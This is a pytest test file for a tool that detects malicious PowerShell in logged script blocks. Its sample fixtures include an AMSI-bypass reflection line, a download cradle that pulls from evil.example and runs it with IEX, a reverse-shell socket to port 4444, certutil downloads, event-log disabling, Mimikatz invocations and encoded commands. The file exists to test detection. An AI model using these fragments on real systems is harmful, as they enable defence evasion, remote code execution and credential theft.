import json
import re

import pytest

from huskwatch.catalog.rules import Rule, builtin_rules, load_rules, rules_table
from huskwatch.functions.text import required_literal
from huskwatch.operators.blocks import classify, decode_blocks, explode_findings, reassemble
from huskwatch.operators.content import apply_content


def brute(text, rules):
    """Hits by the plain regular-expression engine."""
    out = []
    for rule_no, rule in enumerate(rules):
        for pattern_no, pattern in enumerate(rule.patterns):
            for hit_no, m in enumerate(re.finditer(pattern, text, re.I | re.M)):
                ctx = text[max(0, m.start() - 40):min(len(text), m.end() + 40)].replace("\n", " ").strip()
                out.append((rule_no, pattern_no, hit_no, m.group(0)[:120], ctx[:160]))
    return out


TEXTS = [
    "[Ref].Assembly.GetType('System.Management.Automation.AmsiUtils').GetField('amsiInitFailed','x')",
    "(New-Object Net.WebClient).DownloadString('http://evil.example/p') | IEX; IEX ($x); iex $y",
    "$c = New-Object System.Net.Sockets.TcpClient('10.0.0.5',4444); $stream.Write($b)\nStreamReader x StreamWriter y while(1)",
    "schtasks /create /tn x\nreg add HKCU\\x AmsiEnable /d 0\ncertutil -urlcache -split -f http://a/b c",
    "Invoke-Command -ComputerName srv -ScriptBlock {1}; net use \\\\srv\\c$; copy x \\\\srv\\ADMIN$\\y; \\\\srv\\C$\\z",
    "kernel32 VirtualProtect amsi amsiInitFailed ntdll EtwEventWrite \r ntdll EtwEventWrite",
    "wget http://x; curl -s https://y/z; wevtutil sl Security /e:false; setspn -T d; ınvoke-mimikatz inVoKe-Mimikatz lsaſſ sekurlſa",
    "Get-Process | Where-Object { $_.CPU -gt 10 }",
    "amsi.dll " * 60 + "\U0001F600 amsi.dll é amsi.dll",
    "powershell -enc " + "QUJD" * 10 + " -ep bypass -ExecutionPolicy  Unrestricted",
    "",
]


def test_catalogue_shape(spark):
    rules = builtin_rules()
    assert len(rules) == 42 and sum(len(r.patterns) for r in rules) == 202
    assert rules_table(spark, rules).count() == 42


def test_hits_equal_plain_engine(spark, make_blocks):
    rules = builtin_rules()
    blocks = classify(make_blocks(*[(t, i) for i, t in enumerate(TEXTS)]), rules)
    rows = explode_findings(blocks, "block_id").filter("rule_no >= 0").collect()
    for i, t in enumerate(TEXTS):
        got = sorted((r.rule_no, r.pattern_no, r.hit_no, r.matched_text, r.context) for r in rows if r.block_id == f"b{i:04d}")
        assert got == sorted(brute(t, rules)), t


def test_gate_literal_is_required():
    for rule in builtin_rules():
        for p in rule.patterns:
            lit = required_literal(p)
            assert lit == lit.lower()
    assert required_literal(r"\bcurl\b.*https?://") == "curl"
    assert required_literal("a|b") == ""


def test_custom_rules(tmp_path, spark, make_blocks):
    f = tmp_path / "rules.json"
    f.write_text(json.dumps({"rules": [{"name": "n", "technique_id": "T", "mitre_id": "T1", "severity": 33, "patterns": ["fo+"]}]}))
    rules = load_rules(str(f))
    row = classify(make_blocks(("a foo b fooo", 0)), rules).first()
    assert [x.matched_text for x in row.findings] == ["foo", "fooo"] and row.severity == 33
    assert load_rules(str(f), spark) == rules and len(load_rules()) == 42
    with pytest.raises(FileNotFoundError):
        load_rules(str(tmp_path / "absent.json"))


def test_entropy_fallback(spark, make_blocks):
    wide = "".join(chr(0x4E00 + (i * 37) % 500) for i in range(600))
    row = classify(make_blocks((wide, 0))).first()
    assert [(f.technique_id, f.severity, f.confidence) for f in row.findings] == [("HIGH_ENTROPY_BLOB", 40, 0.5)]
    assert row.severity == 50         # 40, one technique, entropy above 5.5
    assert classify(make_blocks((wide[:250], 0))).first().findings == []


def test_block_severity(spark, make_blocks):
    rules = [Rule("a", "A", "T1", 90, ("aaa",)), Rule("b", "B", "T2", 75, ("bbb",)), Rule("c", "C", "T3", 10, ("ccc",))]
    rows = classify(make_blocks(("aaa", 0), ("aaa bbb", 1), ("ccc aaa bbb", 2), ("zzz", 3)), rules).orderBy("block_id").collect()
    assert [r.severity for r in rows] == [90, 98, 100, 0]


def test_reassembly(spark, make_blocks):
    parts = make_blocks(
        {"id": "m", "number": 2, "total": 2, "text": "two", "decoded": "TWO", "sec": 5}, {"id": "m", "number": 1, "total": 2, "text": "one-", "decoded": "ONE-"},
        {"id": "s", "text": "single"}, {"id": "i", "number": 1, "total": 3, "text": "left"}, {"id": "i", "number": 3, "total": 3, "text": "over"})
    rows = {(r.block_id, r.block_number): r for r in reassemble(parts).collect()}
    assert set(rows) == {("m", 1), ("s", 1), ("i", 1), ("i", 3)}
    m = rows[("m", 1)]
    assert (m.raw_text, m.decoded_text, m.block_total, m.ts.second) == ("one-two", "ONE-TWO", 1, 0)


def test_bulky_incomplete_ids_pass_through(spark, make_blocks):
    parts = make_blocks(*[{"id": "hot", "number": i % 5, "total": 4, "sec": i} for i in range(30)], {"id": "m", "number": 1, "total": 2, "text": "a"},
                        {"id": "m", "number": 2, "total": 2, "text": "b"})
    rows = reassemble(parts, bulky_parts=10).collect()
    assert sorted(r.raw_text for r in rows) == ["ab"] + ["x"] * 30


def test_decode_feeds_rules(spark, make_blocks):
    blocks = decode_blocks(make_blocks(("In`voke-Mim`ikatz", 0)).drop("decoded_text"))
    assert [f.technique_id for f in classify(blocks).first().findings] == ["CRED_HARVEST"]


@pytest.mark.parametrize("text,want", [
    ("x amsiInitFailed", ["AMSI_BYPASS_REFLECT"]), ("getfield AMSI", ["AMSI_BYPASS_REFLECT"]),
    ("net.webclient downloadfile", ["DOWNLOAD_CRADLE_WC"]), ("downloadfile", []),
    ("A" * 220, ["HIGH_ENTROPY_BLOB"]), ("function " + "A" * 220, []), ("", [])])
def test_applied_content(spark, make_blocks, text, want):
    assert apply_content(make_blocks((text, 0))).first().content_hits == want
